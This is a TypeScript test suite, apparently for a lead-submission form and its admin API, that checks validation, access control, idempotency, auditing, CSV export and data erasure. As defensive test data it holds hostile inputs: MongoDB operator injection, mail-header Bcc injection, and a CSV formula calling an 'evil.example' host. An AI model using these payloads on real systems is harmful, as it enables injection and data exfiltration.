import { randomInt, randomUUID } from 'node:crypto';
import type { Lead, LeadListExtras, LeadRow } from '@croneai/contracts/endpoints/leads/admin-leads.ts';
import type { SubmissionReceipt } from '@croneai/contracts/endpoints/leads/lead-form.ts';
import { leadSubmitted } from '@croneai/contracts/events/leads.ts';
import { contactReceived } from '@croneai/contracts/events/support.ts';
import { LEAD_CONSENT_TEXT } from '@croneai/contracts/leads.ts';
import { MINUTE_MS } from '@croneai/contracts/units.ts';
import { afterAll, describe, expect, it } from 'vitest';
import { mongoCommandsOf } from '../../../tests/support/mongo-commands.ts';
import { someId } from '../../../tests/support/sessions.ts';
import { someLead } from '../../../tests/support/some-lead.ts';
import { someUser } from '../../../tests/support/some-user.ts';
import { startHarness } from './harness.ts';

const adminUser = someUser({ role: 'owner', fullName: 'Zed Admin' });

const harness = await startHarness();
afterAll(() => harness.stop());
const admin = await harness.sessions.open({ role: 'owner', userId: adminUser.userId });
await harness.publishUser(adminUser);

const unique = () => randomUUID().slice(0, 8);

const submit = (body: unknown, headers: Record<string, string> = {}) =>
  harness.call<SubmissionReceipt>('POST', '/api/bot-access/submit', { body, headers });
const asAdmin = <Data>(method: string, path: string, options: object = {}) =>
  harness.call<Data>(method, `/api/bot-access/submissions${path}`, { token: admin.token, ...options });
const list = async (query: Record<string, string>) => {
  const { status, envelope } = await asAdmin<LeadRow[]>('GET', `?${new URLSearchParams(query)}`);
  return { status, ...(envelope as typeof envelope & LeadListExtras) };
};
const getLead = async (id: string) => (await asAdmin<Lead>('GET', `/${id}`)).envelope.data;
const patch = (id: string, body: unknown, headers: Record<string, string> = {}) =>
  asAdmin<Lead>('PATCH', `/${id}/status`, { body, headers });

async function newLead(change: Record<string, unknown> = {}): Promise<string> {
  const { status, envelope } = await submit(someLead(change));
  expect(status).toBe(201);
  return envelope.data.id;
}

describe('a submission', () => {
  it('keeps its campaign, in lower case', async () => {
    const source = { utmSource: 'TikTok', utmCampaign: 'Launch', referrerHost: 'www.tiktok.com' };
    const id = await newLead({ source });
    expect((await getLead(id)).source).toEqual({
      utmSource: 'tiktok',
      utmCampaign: 'launch',
      referrerHost: 'www.tiktok.com',
    });
    const [step] = await harness.waitForMessages('funnel', id, 1);
    expect(step?.value.payload).toEqual({ step: 'form', source: 'tiktok', campaign: 'launch' });
    expect((await submit(someLead({ source: { utmSource: 'x'.repeat(65) } }))).status).toBe(422);
  });

  it('is stored with normalised numbers and the accepted consent text, and is published', async () => {
    const body = someLead({
      phoneNumber: '+234 0801-234 5678',
      wantsCall: 'yes',
      callNumber: '+44 07911 123456',
    });
    const { status, envelope } = await submit(body);
    expect(status).toBe(201);
    const lead = await getLead(envelope.data.id);
    expect(lead).toMatchObject({
      fullName: body.fullName,
      phoneNumber: '+2348012345678',
      callNumber: '+447911123456',
      status: 'new',
      isSuspect: false,
      version: 1,
      consent: { text: LEAD_CONSENT_TEXT, at: lead.submittedAt },
    });
    const [event] = await harness.waitForMessages('leads', lead.id, 1);
    expect(leadSubmitted.payload.parse(event?.value.payload)).toMatchObject({
      email: body.email,
      linkedCount: 0,
    });
  });

  it.each([
    ['+44\u202a20 7946 0958\u202c', '+442079460958'],
    ['+44 \u202d20 7946 0958\u202c', '+442079460958'],
    ['+44 20\u200e 7946 0958', '+442079460958'],
    ['+44 20\ufe0d 7946 0958', '+442079460958'],
    ['+44\u00a020\u00a07946\u00a00958', '+442079460958'],
    ['+44 20\u20117946\u20110958', '+442079460958'],
    ['+44 (0)20 7946 0958', '+442079460958'],
    ['+39 06 6982 0000', '+390669820000'],
    ['+49 (0)176 1234 5678', '+4917612345678'],
    ['+234 0801 234 5678', '+2348012345678'],
    ['+1 (212) 555-0142', '+12125550142'],
  ])(
    'with the number %j is stored as %s, and a search finds either spelling',
    async (phoneNumber, stored) => {
      const id = await newLead({ phoneNumber });
      expect(await getLead(id)).toMatchObject({ phoneNumber: stored, isPhonePossible: true });
      for (const search of [stored, phoneNumber]) {
        const { data } = await list({ search, limit: '100' });
        expect(
          data.map((lead) => lead.id),
          search,
        ).toContain(id);
      }
    },
  );

  it('is linked to a submission in which the same number is spelled differently', async () => {
    const digits = String(randomInt(10_000_000, 100_000_000));
    const first = await newLead({ phoneNumber: `+49 (0)176 ${digits}` });
    const second = await newLead({ phoneNumber: `\u202a+49176\u00a0${digits}\u202c` });
    expect((await getLead(second)).linked.map(({ id }) => id)).toEqual([first]);
    for (const search of [`0176 ${digits}`, `(0)176/${digits}`])
      expect((await list({ search })).data.map(({ id }) => id).sort()).toEqual([first, second].sort());
  });

  it('has an error at each invalid field (ASVS 2.2.3)', async () => {
    const body = {
      ...someLead(),
      email: 'no',
      phoneNumber: '0801',
      hasFunded: 'maybe',
      hasLostMoney: 'yes',
      wantsCall: 'yes',
    };
    const { status, envelope } = await submit(body);
    expect(status).toBe(422);
    expect(envelope.data).toEqual({
      fields: {
        email: 'Please enter a valid email address',
        phoneNumber: 'Please enter a valid phone number (digits only, no country code)',
        hasFunded: 'Please select an option',
        lossAmount: 'Please enter the loss amount',
        callNumber: 'Please enter a call number',
      },
    });
  });

  it.each([
    ['a value in the hidden field', { website: 'https://spam.example' }, ['honeypot']],
    ['been sent 40 ms after the form was opened', { elapsedMs: 40 }, ['too-fast']],
  ])('is stored and marked as suspicious if it has %s', async (_what, change, reasons) => {
    const lead = await getLead(await newLead(change));
    expect(lead).toMatchObject({ isSuspect: true, suspectReasons: reasons });
    expect((await list({ suspect: 'yes', search: lead.email })).data).toHaveLength(1);
    expect((await list({ suspect: 'no', search: lead.email })).data).toHaveLength(0);
  });

  it('cannot set its own status, assignee, version or note (ASVS 8.2.3, 15.3.3)', async () => {
    const id = await newLead({
      status: 'activated',
      assigneeId: adminUser.userId,
      version: 9,
      timeline: [{}],
      _id: 'x',
    });
    expect(await getLead(id)).toMatchObject({ status: 'new', assignee: null, version: 1, timeline: [] });
  });

  it('is refused with 422 if it has operators or control characters instead of text (ASVS 1.2.4)', async () => {
    for (const change of [
      { email: { $gt: '' } },
      { fullName: ['a'] },
      { fullName: 'a\r\nBcc: b@c.de' },
      { website: {} },
    ])
      expect((await submit(someLead(change))).status).toBe(422);
  });

  it('creates one lead if it is sent fifty times at once with one key, and gets the same reply each time', async () => {
    const body = someLead();
    const key = { 'idempotency-key': randomUUID() };
    const replies = await Promise.all(Array.from({ length: 50 }, () => submit(body, key)));
    expect(new Set(replies.map(({ status }) => status))).toEqual(new Set([201]));
    expect(new Set(replies.map(({ envelope }) => JSON.stringify(envelope.data))).size).toBe(1);
    expect((await list({ search: body.email })).pagination?.total).toBe(1);

    const other = await submit({ ...body, readyToStart: 'week' }, key);
    expect(other).toMatchObject({ status: 409, envelope: { error: 'request.idempotency_key_reused' } });
  });

  it('is stored even if the person has submitted before, and is linked to the earlier submission by address or number', async () => {
    const first = someLead();
    const ids = [
      await newLead(first),
      await newLead({ email: first.email }),
      await newLead({ phoneNumber: first.phoneNumber.replace('+234', '+2340') }),
    ];
    const lead = await getLead(ids[0] as string);
    expect(lead.linked.map(({ id }) => id).sort()).toEqual(ids.slice(1).sort());
    const { data } = await list({ search: first.email });
    expect(data.map(({ linkedCount }) => linkedCount).sort()).toEqual([1, 2]);
  });
});

describe('the list', () => {
  it('counts all search results by status even if a status filter is set, and includes today in the chart', async () => {
    const name = `Counted ${unique()}`;
    const ids = [
      await newLead({ fullName: name }),
      await newLead({ fullName: name }),
      await newLead({ fullName: name }),
    ];
    await patch(ids[0] as string, { status: 'qualified' });
    await patch(ids[0] as string, { status: 'activated' });
    await patch(ids[1] as string, { status: 'rejected' });

    const found = await list({ search: name.toUpperCase(), status: 'activated' });
    expect(found.data.map(({ id }) => id)).toEqual([ids[0]]);
    expect(found.pagination).toEqual({ total: 1, pages: 1, current: 1 });
    expect(found.counts).toEqual({
      total: 3,
      suspect: 0,
      new: 1,
      contacted: 0,
      qualified: 0,
      activated: 1,
      rejected: 1,
    });
    expect(found.byDay).toHaveLength(30);
    expect(found.byDay.at(-1)).toMatchObject({ submitted: 3, activated: 1 });
    expect(found.assignees).toContainEqual({ id: adminUser.userId, fullName: 'Zed Admin' });
  });

  it('finds a number in every spelling, and searches for any text literally', async () => {
    const body = someLead({ fullName: 'A.*b (c) [d] $e' });
    await newLead(body);
    const written = body.phoneNumber.replace('+234', '+234 ').replace(/(\d{3})(\d{4})$/, '$1-$2');
    expect((await list({ search: written })).data).toHaveLength(1);
    expect((await list({ search: 'A.*b (c) [d]' })).data[0]?.email).toBe(body.email);
    expect((await list({ search: '.*' })).data).toHaveLength(1);
    for (const search of ['(', '[a', '\\', '$where', '^']) expect((await list({ search })).status).toBe(200);
  });

  it('is empty after its last page and for days without leads, and has 50 rows by default', async () => {
    const beyond = await list({ page: '999999' });
    expect(beyond).toMatchObject({ status: 200, data: [], pagination: { current: 999_999 } });
    expect((await list({ to: '2020-01-01' })).data).toEqual([]);
    expect((await list({ from: '', to: '', status: '', search: '' })).data.length).toBeLessThanOrEqual(50);
    for (const query of ['from=yesterday', 'status=open', 'page=0', 'limit=201', 'suspect=maybe'])
      expect((await asAdmin('GET', `?${query}`)).status).toBe(422);
    // With a MongoDB operator in its name, a field is unknown and ignored.
    const operators = await list({ 'status[$ne]': 'new', 'search[$regex]': '^$', limit: '1' });
    expect(operators.pagination?.total).toBe((await list({ limit: '1' })).pagination?.total);
  });

  it('is only for admins', async () => {
    const id = await newLead();
    const { token } = await harness.sessions.open();
    for (const [method, path] of [
      ['GET', ''],
      ['GET', '/export'],
      ['GET', `/${id}`],
      ['PATCH', `/${id}/status`],
    ] as const) {
      const body = method === 'PATCH' ? { body: { status: 'contacted' } } : {};
      expect((await asAdmin(method, path, { ...body, token })).status).toBe(403);
      expect((await asAdmin(method, path, { ...body, token: 'nobody' })).status).toBe(401);
    }
    expect((await asAdmin('GET', '/66f1a2b3c4d5e6f708192aaa')).envelope.error).toBe('leads.not_found');
    expect((await asAdmin('GET', '/no-id')).status).toBe(400);
  });
});

describe('work on a lead', () => {
  it('changes its status, adds a timeline entry with the admin’s name, and publishes the change with an audit entry', async () => {
    const id = await newLead();
    const { status, envelope } = await patch(
      id,
      { status: 'contacted', assigneeId: adminUser.userId, notes: 'Called.\nWants Monday.' },
      { 'if-match': '"1"' },
    );
    expect(status).toBe(200);
    const by = { id: adminUser.userId, fullName: 'Zed Admin' };
    expect(envelope.data).toMatchObject({
      status: 'contacted',
      assignee: by,
      version: 2,
      nextStatuses: ['qualified', 'rejected'],
      timeline: [
        { kind: 'status', from: 'new', to: 'contacted', by },
        { kind: 'assignee', from: null, to: by, by },
        { kind: 'note', text: 'Called.\nWants Monday.', by },
      ],
    });
    const events = await harness.waitForMessages('leads', id, 2);
    expect(events[1]?.value).toMatchObject({
      type: 'lead.status-changed',
      aggregateVersion: 2,
      payload: { from: 'new', to: 'contacted', changedBy: adminUser.userId },
    });
    const [audit] = await harness.waitForMessages('audit', id, 1);
    expect(audit?.value.payload).toMatchObject({
      actor: { userId: adminUser.userId, role: 'owner' },
      action: 'lead.update',
      subject: { kind: 'lead', id },
      before: { status: 'new', assigneeId: null, notes: 0 },
      after: { status: 'contacted', assigneeId: adminUser.userId, notes: 1 },
    });
    expect(JSON.stringify(audit?.value)).not.toContain('Monday');
  });

  it('refuses an impossible status change, an assignee who is not an admin, and an empty change', async () => {
    const id = await newLead();
    expect(await patch(id, { status: 'activated' })).toMatchObject({
      status: 422,
      envelope: {
        error: 'leads.transition',
        data: { fields: { status: expect.stringContaining('activated') } },
      },
    });
    const member = someUser();
    await harness.publishUser(member);
    expect((await patch(id, { assigneeId: member.userId })).envelope.error).toBe('leads.assignee_unknown');
    expect((await patch(id, {})).status).toBe(422);
    expect((await patch(id, { status: { $ne: 'new' } })).status).toBe(422);
    expect((await getLead(id)).version).toBe(1);
  });

  it('accepts only one of two simultaneous changes, and shows the other admin the new state', async () => {
    const id = await newLead();
    const seen = { 'if-match': '"1"' };
    const replies = await Promise.all([
      patch(id, { status: 'contacted' }, seen),
      patch(id, { status: 'rejected' }, seen),
      patch(id, { notes: 'Me too' }, seen),
    ]);
    expect(replies.map(({ status }) => status).sort()).toEqual([200, 409, 409]);
    const lost = replies.find(({ status }) => status === 409);
    expect(lost?.envelope).toMatchObject({ error: 'leads.conflict', data: { id, version: 2 } });
  });
});

describe('the CSV', () => {
  it('has the rows of the list under the same filters, and no cells that are formulas', async () => {
    const mark = unique();
    await newLead({
      fullName: `=HYPERLINK("http://evil.example?${mark}","x")`,
      hasLostMoney: 'yes',
      lossAmount: '-1+2',
    });
    await newLead({ fullName: `Zoë, "the ${mark}"` });
    const response = await fetch(`${harness.url}/api/bot-access/submissions/export?search=${mark}`, {
      headers: { authorization: `Bearer ${admin.token}` },
    });
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="croneai-leads-[\d-]+\.csv"/,
    );
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = new TextDecoder().decode(bytes).trim().split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[0]).toMatch(/^id,submittedAt,status,/);
    expect(lines[1]).toContain(`"Zoë, ""the ${mark}"""`);
    expect(lines[2]).toContain(`"'=HYPERLINK(""http://evil.example?${mark}"",""x"")"`);
    expect(lines[2]).toContain(`'-1+2`);
    expect(lines[2]).toMatch(/,\+234802\d{7},/);
    const [recorded] = await harness.waitForMessages('audit', admin.userId, 1);
    expect(recorded?.value.payload).toMatchObject({
      actor: { userId: admin.userId, role: 'owner' },
      action: 'leads.export',
      after: { filter: { search: `a text of ${mark.length} characters` } },
    });
  });
});

describe('a list of leads', () => {
  it('sends at most six queries for a page of any length', async () => {
    const mark = unique();
    const ids = await Promise.all(
      [1, 2, 3, 4].map(() => newLead({ email: `same-${mark}@example.com`, fullName: `Ada ${mark}` })),
    );
    for (let one = 0; one < 12; one += 1) await newLead({ fullName: `Bea ${mark}` });
    const replies: LeadRow[][] = [];
    const commands = await mongoCommandsOf(harness.config.MONGO_DATABASE, async () => {
      replies.push((await list({ search: mark, limit: '50' })).data);
    });
    // Leaves out the queries of the outbox relay, which runs at the same time.
    const asked = commands.filter(
      ({ name, collection, command }) =>
        collection === 'submissions' &&
        ['find', 'aggregate'].includes(name) &&
        !/"outbox/.test(JSON.stringify(command.filter)),
    );
    expect(asked.length).toBeLessThanOrEqual(6);
    const linked = new Map(replies[0]?.map(({ id, linkedCount }) => [id, linkedCount]));
    expect(ids.map((id) => linked.get(id))).toEqual([3, 3, 3, 3]);
    expect(linked.size).toBe(16);
  });

  it('counts a person’s other submissions only up to the maximum that is shown with a lead', async () => {
    const email = `many-${unique()}@example.com`;
    await newLead({ email });
    const stored = harness.database.collection<{ _id: string }>('submissions');
    const { _id, ...one } = (await stored.findOne({ email } as object)) ?? { _id: '' };
    const copies = Array.from({ length: 60 }, () => ({ ...one, _id: someId() }));
    await stored.insertMany(copies);
    const { data } = await list({ search: email, limit: '1' });
    expect(data[0]?.linkedCount).toBe(50);
    await stored.deleteMany({ _id: { $in: copies.map((copy) => copy._id) } });
  });
});

describe('reading in bulk', () => {
  const seed = async (count: number) => {
    const email = `bulk-${unique()}@example.com`;
    await newLead({ email });
    const stored = harness.database.collection<{ _id: string }>('submissions');
    const { _id, ...one } = (await stored.findOne({ email } as object)) ?? { _id: '' };
    const copies = Array.from({ length: count - 1 }, () => ({ ...one, _id: someId() }));
    await stored.insertMany(copies);
    const remove = () => stored.deleteMany({ email } as object);
    return { email, remove };
  };

  it('is refused eleven minutes after an admin’s sign-in, and the reads before the refusal are audited', async () => {
    const { email, remove } = await seed(210);
    const signedInAt = new Date(Date.now() - 11 * MINUTE_MS);
    const reader = await harness.sessions.open({ role: 'owner', signedInAt });
    const read = (query: string, { token } = reader) =>
      harness.call('GET', `/api/bot-access/submissions?search=${email}&${query}`, { token });
    const refusal = { status: 403, envelope: { error: 'auth.recent_sign_in_required', data: null } };
    expect(await read('limit=200')).toMatchObject(refusal);
    // A page that is read again counts only once, so these calls do not exceed the limit.
    for (const page of [1, 1, 2, 2, 1]) expect((await read(`page=${page}`)).status).toBe(200);
    expect(await read('page=3')).toMatchObject(refusal);
    expect((await read('page=2')).status).toBe(200);
    const [recorded] = await harness.waitForMessages('audit', reader.userId, 1);
    expect(recorded?.value.payload).toMatchObject({
      actor: { userId: reader.userId, role: 'owner' },
      action: 'members.read',
      after: { filter: { list: 'listLeads', page: 2, limit: 50, records: 100 } },
    });
    // Leads and tickets share one count. The count of a new session starts at zero.
    const inbox = await harness.call('GET', '/api/support/tickets', { token: reader.token });
    expect(inbox.status).toBe(200);
    const fresh = await harness.sessions.open({ role: 'owner', userId: reader.userId });
    for (const page of [1, 2]) expect((await read(`limit=200&page=${page}`, fresh)).status).toBe(200);
    const [, again] = await harness.waitForMessages('audit', reader.userId, 2);
    expect(again?.value.payload).toMatchObject({ after: { filter: { records: 200 } } });
    await remove();
  });
});

describe('the contact form', () => {
  const message = () => ({
    name: 'Zoe Writer',
    email: `writer-${unique()}@example.com`,
    category: 'billing',
    subject: 'A question',
    message: 'Two\nlines',
  });
  const send = (body: unknown, headers: Record<string, string> = {}) =>
    harness.call<{ id: string }>('POST', '/api/contact', { body, headers });

  it('creates and publishes one message if it is sent fifty times at once with one key', async () => {
    const body = message();
    const key = { 'idempotency-key': randomUUID() };
    const replies = await Promise.all(Array.from({ length: 50 }, () => send(body, key)));
    expect(new Set(replies.map(({ status, envelope }) => `${status} ${envelope.data.id}`)).size).toBe(1);
    expect(replies[0]).toMatchObject({ status: 201, envelope: { message: 'Message sent successfully!' } });
    const id = replies[0]?.envelope.data.id as string;
    const [event] = await harness.waitForMessages('support', id, 1);
    expect(contactReceived.payload.parse(event?.value.payload)).toMatchObject({ ...body, isSuspect: false });
    expect(harness.seen('support', id)).toHaveLength(1);
  });

  it('refuses missing and too long fields, and line breaks that would add a mail header (ASVS 1.3.11)', async () => {
    const { envelope } = await send({});
    expect(Object.keys((envelope.data as unknown as { fields: object }).fields).sort()).toEqual([
      'email',
      'message',
      'name',
      'subject',
    ]);
    for (const change of [
      { subject: 'Hi\r\nBcc: all@example.com' },
      { name: 'x'.repeat(101) },
      { email: 'a@b.example\nBcc: c@d.example' },
      { category: 'sales' },
      { message: 'x'.repeat(5_001) },
    ])
      expect((await send({ ...message(), ...change })).status).toBe(422);
    expect((await send({ ...message(), message: 'x'.repeat(200_000) })).status).toBe(413);
  });
});

describe('a member', () => {
  it('can export forms that were sent from the member’s address; an erasure of the account removes these forms and is audited', async () => {
    const member = someUser();
    await harness.publishUser(member);
    const own = await newLead({ email: member.email });
    const others = await newLead();
    await patch(own, { notes: 'A private note' });
    await harness.call('POST', '/api/contact', {
      body: { name: 'Me', email: member.email, category: 'general', subject: 'S', message: 'M' },
    });

    const { token } = await harness.sessions.open({ userId: member.userId });
    const { envelope } = await harness.call<Record<string, { id: string }[]>>(
      'GET',
      '/api/account/export/leads',
      { token },
    );
    expect(envelope.data.applications?.map(({ id }) => id)).toEqual([own]);
    expect(envelope.data.contactMessages).toHaveLength(1);
    expect(JSON.stringify(envelope.data)).not.toContain(adminUser.userId);

    await harness.waitForMessages('audit', own, 1);
    await harness.publishUserDeleted(member.userId);
    expect((await asAdmin('GET', `/${own}`)).status).toBe(404);
    expect((await asAdmin('GET', `/${others}`)).status).toBe(200);
    const [, told] = await harness.waitForMessages('audit', own, 2);
    expect(told?.value).toMatchObject({
      type: 'audit.subject-erased',
      payload: { subject: { kind: 'lead', id: own } },
    });
    await harness.storesNothingOf(member.email);
  });

  it('is erased with forms from an address that they used before, and no other member can export these forms', async () => {
    const member = someUser();
    await harness.publishUser(member);
    const before = await newLead({ email: member.email });
    const contact = { name: 'Me', category: 'general', subject: 'S', message: 'M' };
    await harness.call('POST', '/api/contact', { body: { ...contact, email: member.email } });
    const email = `later-${unique()}@example.com`;
    await harness.publishUser({ ...member, email }, 2);
    // The address now belongs to a different user, who also applies.
    const heir = someUser({ email: member.email });
    await harness.publishUser(heir);
    const heirs = await newLead({ email: heir.email });
    const exported = async ({ userId }: { userId: string }) => {
      const { token } = await harness.sessions.open({ userId });
      const path = '/api/account/export/leads';
      return (await harness.call<Record<string, { id: string }[]>>('GET', path, { token })).envelope.data;
    };
    expect((await exported(member)).applications?.map(({ id }) => id)).toEqual([before]);
    expect((await exported(member)).contactMessages).toHaveLength(1);
    expect((await exported(heir)).applications?.map(({ id }) => id)).toEqual([heirs]);
    expect((await exported(heir)).contactMessages).toEqual([]);

    await harness.settled('users', 1, () => harness.publishTombstone('users', member.userId));
    const { data } = await list({ search: member.email });
    expect(data.map(({ id }) => id)).toEqual([heirs]);
    await harness.settled('users', 1, () => harness.publishTombstone('users', heir.userId));
    await harness.storesNothingOf(member.email);
  });
});
